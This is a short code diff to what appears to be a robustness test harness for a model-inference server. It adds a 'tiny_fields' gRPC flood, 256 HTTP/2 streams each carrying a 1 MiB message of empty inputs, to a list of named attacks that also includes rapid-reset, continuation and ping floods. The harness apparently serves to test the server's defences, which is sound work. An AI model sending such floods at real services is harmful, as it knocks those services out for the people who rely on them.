@@ -99,6 +99,10 @@ def _grpc_flood(kind: str, raw: bytes) -> tuple[bytes, Any]:
         block = _block(SERVICE + "ModelInfer")
         return hello, lambda i: (_frame(HEADERS, END_HEADERS, 2 * i + 1, block) + _frame(DATA, 0, 2 * i + 1, chunk)
                                  if i < 1024 else b"")
+    if kind == "tiny_fields":  # whole requests of empty inputs (two bytes each), each 1 MiB: one stream window
+        block, body = _block(SERVICE + "ModelInfer"), _message(b"\x2a\x00" * ((1 << 19) - 3))
+        return hello, lambda i: (_frame(HEADERS, END_HEADERS, 2 * i + 1, block) + _frame(DATA, END_STREAM, 2 * i + 1,
+                                                                                        body) if i < 256 else b"")
     raise ValueError(kind)
 
 
@@ -256,7 +260,7 @@ def attacker(kind: str, http_port: int, grpc_port: int, seconds: float, raw: byt
 
 
 ATTACKS = ("ping", "settings", "empty_data", "continuation", "rapid_reset_infer", "rapid_reset_forwarded",
-           "incomplete_messages", "http_pipeline", "ambiguous_heads", "idle_connections", "json_burst")
+           "incomplete_messages", "tiny_fields", "http_pipeline", "ambiguous_heads", "idle_connections", "json_burst")
 
 
 def _json_body(batch: Any) -> bytes:
